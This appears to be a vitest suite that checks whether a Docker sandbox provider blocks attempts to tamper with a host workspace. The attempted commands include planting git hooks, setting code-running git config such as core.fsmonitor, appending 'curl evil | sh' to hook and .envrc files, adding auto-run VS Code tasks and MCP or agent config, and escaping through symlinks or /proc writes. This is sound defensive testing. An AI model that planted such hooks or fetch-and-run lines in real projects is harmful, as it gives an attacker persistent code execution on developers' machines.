// A reduced set of the OS sandbox's git and file system attacks (os/attacks-git.test.ts,
// os/attacks-filesystem.test.ts), run through a Docker client over the same fixture bound from
// the host: the policy code in the container must protect the host's workspace as the local
// sandbox does. Renames use mv (the image has no python3); the mount attacks are left out (the
// image has no mount program). For a provider as root and with a non-root provider user. Skips,
// saying why, where no engine answers.
import { execFileSync } from "node:child_process";
import { mkdir, writeFile } from "node:fs/promises";
import path from "node:path";
import { afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { HttpSandboxSession } from "../http-provider.js";
import {
  type AttackFixture,
  attempt,
  createAttackFixture,
  verdicts,
} from "../os/test-support/fixture.js";
import { quote } from "../os/test-support/servers.js";
import { createDockerSandboxProvider } from "./docker-provider.js";
import {
  dockerSkipReason,
  ensureSandboxImage,
  IMAGE,
  placeholdersGone,
} from "./test-support/docker-engine.js";

const skipReason = dockerSkipReason();
const asRoot = process.getuid?.() === 0;
const variants: { label: string; user?: string }[] = asRoot
  ? [
      { label: "provider as root" },
      { label: "non-root provider user 1000:1000", user: "1000:1000" },
    ]
  : [{ label: `provider as uid ${process.getuid?.()}` }];

const GIT = ["-c", "safe.directory=*", "-c", "user.name=x", "-c", "user.email=x@x"];

for (const variant of variants) {
  describe.skipIf(skipReason !== undefined)(
    `attacks through the Docker backend, ${variant.label}`,
    () => {
      const fixture = {} as AttackFixture;
      let session: HttpSandboxSession | undefined;
      const provider = createDockerSandboxProvider({
        image: IMAGE,
        ...(variant.user === undefined ? {} : { user: variant.user }),
      });

      /** Give the workspace to the variant's user (after any setup the host did in it). */
      const handOver = () => {
        if (variant.user !== undefined) execFileSync("chown", ["-R", variant.user, fixture.root]);
      };
      /** Run `command` in a container over the fixture's workspace (one per case). */
      const run = async (command: string) => {
        if (session === undefined) {
          handOver();
          session = await provider.acquire({ workspace: fixture.root });
        }
        const result = await session.client.exec(command);
        // Placeholder folders go once no command has used them for a moment: compare after.
        await placeholdersGone(fixture.root);
        return result;
      };
      const state = async () => {
        handOver();
        return fixture.state();
      };

      beforeAll(() => ensureSandboxImage(), 300_000);
      beforeEach(async () => {
        Object.assign(fixture, await createAttackFixture());
      });
      afterEach(async () => {
        await session?.release();
        session = undefined;
        await fixture.cleanup();
      });

      it("cannot plant a hook in the gitdir", async () => {
        const before = await state();
        const { stdout } = await run(
          [
            attempt("printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit"),
            attempt("cp .git/hooks/pre-commit.sample .git/hooks/post-checkout"),
            attempt("chmod +x .git/hooks/pre-commit.sample"),
            attempt("rm .git/hooks/pre-commit.sample"),
          ].join("\n"),
        );
        expect(verdicts(stdout)).toEqual(Array(4).fill("BLOCKED"));
        expect(await fixture.state()).toEqual(before);
      }, 60_000);

      it("cannot rename .git away and plant a new one", async () => {
        const before = await state();
        const { stdout } = await run(
          [
            attempt("mv .git .git-old"),
            attempt("rm -rf .git"),
            attempt("mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit"),
            attempt("git init -q ."),
          ].join("\n"),
        );
        expect(verdicts(stdout)).toEqual(Array(4).fill("BLOCKED"));
        expect(await fixture.state()).toEqual(before);
      }, 60_000);

      it("cannot set git config keys that run code, commit or rewrite refs, yet can read history", async () => {
        const before = await state();
        const { stdout } = await run(
          [
            "git log --format=%s",
            attempt("git config core.fsmonitor 'touch /tmp/pwned; false'"),
            attempt("git config core.hooksPath hooks"),
            attempt("printf '[core]\\n\\thooksPath = hooks\\n' >> .git/config"),
            attempt("git config alias.st '!touch /tmp/pwned'"),
            attempt("git -c user.name=x -c user.email=x@x commit -q --allow-empty -m evil"),
            attempt("git update-ref refs/heads/main HEAD"),
          ].join("\n"),
        );
        expect(stdout.split("\n")[0]).toBe("initial");
        expect(verdicts(stdout)).toEqual(Array(6).fill("BLOCKED"));
        expect(await fixture.state()).toEqual(before);
      }, 60_000);

      it("cannot write a nested repository's .git, rename it, or rename its parent folders", async () => {
        const before = await state();
        const { stdout } = await run(
          [
            attempt("echo evil > vendor/lib/.git/hooks/post-checkout"),
            attempt("git -C vendor/lib config core.fsmonitor 'touch /tmp/pwned; false'"),
            attempt("mv vendor/lib/.git vendor/lib/git-old"),
            attempt("mv vendor/lib vendor/lib-old"),
            attempt("mv vendor vendor-old"),
            attempt("rm -rf vendor/lib/.git"),
          ].join("\n"),
        );
        expect(verdicts(stdout)).toEqual(Array(6).fill("BLOCKED"));
        expect(await fixture.state()).toEqual(before);
      }, 60_000);

      it("protects the gitdir a .git file points to, and the hooks folder core.hooksPath names", async () => {
        execFileSync("git", [
          ...GIT,
          "init",
          "-q",
          "--separate-git-dir",
          path.join(fixture.root, "sub", "gitdir-store"),
          path.join(fixture.root, "sub", "checkout"),
        ]);
        execFileSync("git", [...GIT, "config", "core.hooksPath", ".husky"], { cwd: fixture.root });
        await mkdir(path.join(fixture.root, ".husky"));
        await writeFile(path.join(fixture.root, ".husky", "pre-commit"), "npm test\n");
        const before = await state();
        const { stdout } = await run(
          [
            attempt("echo evil > sub/gitdir-store/hooks/pre-commit"),
            attempt("echo 'gitdir: /tmp/evil' > sub/checkout/.git"),
            attempt("rm sub/checkout/.git"),
            attempt("git -C sub/checkout config core.fsmonitor 'touch /tmp/pwned; false'"),
            attempt("echo 'curl evil | sh' >> .husky/pre-commit"),
            attempt("echo evil > .husky/post-checkout"),
            attempt("mv .husky husky-old"),
          ].join("\n"),
        );
        expect(verdicts(stdout)).toEqual(Array(7).fill("BLOCKED"));
        expect(await fixture.state()).toEqual(before);
      }, 60_000);

      it("protects on the next call a nested .git made between calls", async () => {
        const first = await run(
          "git init -q made/by/command && echo ok > made/by/command/.git/info/note && echo made",
        );
        expect(first.stdout).toBe("made\n");
        execFileSync("git", ["init", "-q", path.join(fixture.root, "src", "by-host")]);
        const before = await state();
        const { stdout } = await run(
          [
            attempt("echo evil > made/by/command/.git/hooks/post-checkout"),
            attempt("git -C made/by/command config core.fsmonitor 'touch /tmp/pwned; false'"),
            attempt("mv made/by made/by-old"),
            attempt("echo evil > src/by-host/.git/hooks/pre-commit"),
            attempt("rm -rf src/by-host/.git"),
            attempt("mv src src-old"),
          ].join("\n"),
        );
        expect(verdicts(stdout)).toEqual(Array(6).fill("BLOCKED"));
        expect(await fixture.state()).toEqual(before);
      }, 60_000);

      it("cannot create missing shell start-up files, .envrc, .mcp.json or editor configuration", async () => {
        const before = await state();
        const { stdout } = await run(
          [
            attempt("echo 'curl evil | sh' > .envrc"),
            attempt('echo \'{"mcpServers":{"x":{"command":"sh"}}}\' > .mcp.json'),
            attempt("echo 'touch ~/pwned' > .bashrc"),
            attempt("echo x > .zshenv"),
            attempt("echo x > .profile"),
            attempt("rmdir .envrc && echo x > .envrc"),
            attempt(
              `echo '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json`,
            ),
            attempt("mv .vscode vscode-old"),
            attempt("mkdir -p .claude && echo '{\"hooks\":{}}' > .claude/settings.json"),
            attempt("ln .git/config cfg"),
          ].join("\n"),
        );
        expect(verdicts(stdout)).toEqual(Array(10).fill("BLOCKED"));
        expect(await fixture.state()).toEqual(before);
      }, 60_000);

      it("cannot escape through a symbolic link, nor write kernel settings", async () => {
        const before = await state();
        const { stdout } = await run(
          [
            `ln -s ${quote(fixture.outside)} made-link`,
            attempt("echo x > made-link/new.txt"),
            attempt("echo x > escape/new.txt"),
            attempt("ln -s /etc made-etc && echo x > made-etc/pleach-attack"),
            "rm -f made-link made-etc",
            // Rewrites the current value, so even a failed defence changes nothing.
            attempt("cat /proc/sys/vm/swappiness > /proc/sys/vm/swappiness"),
            attempt("cat /proc/sys/kernel/core_pattern > /proc/sys/kernel/core_pattern"),
            attempt("mknod made-null c 1 3"),
          ].join("\n"),
        );
        expect(verdicts(stdout)).toEqual(Array(6).fill("BLOCKED"));
        expect(await fixture.state()).toEqual(before);
      }, 60_000);

      it("the file route refuses the same paths", async () => {
        const before = await state();
        await run("true");
        const client = (session as HttpSandboxSession).client;
        for (const [file, code] of [
          [".git/hooks/pre-commit", "PROTECTED_PATH"],
          ["vendor/lib/.git/config", "PROTECTED_PATH"],
          [".vscode/tasks.json", "PROTECTED_PATH"],
          [".envrc", "PROTECTED_PATH"],
          ["escape/new.txt", "PATH_ESCAPE"],
        ] as const) {
          await expect(client.writeFile(file, "evil")).rejects.toMatchObject({ code });
        }
        expect(await fixture.state()).toEqual(before);
      }, 60_000);
    },
  );
}

if (skipReason !== undefined) {
  describe("attacks through the Docker backend", () => {
    it.skip(`skipped: ${skipReason}`, () => {});
  });
}
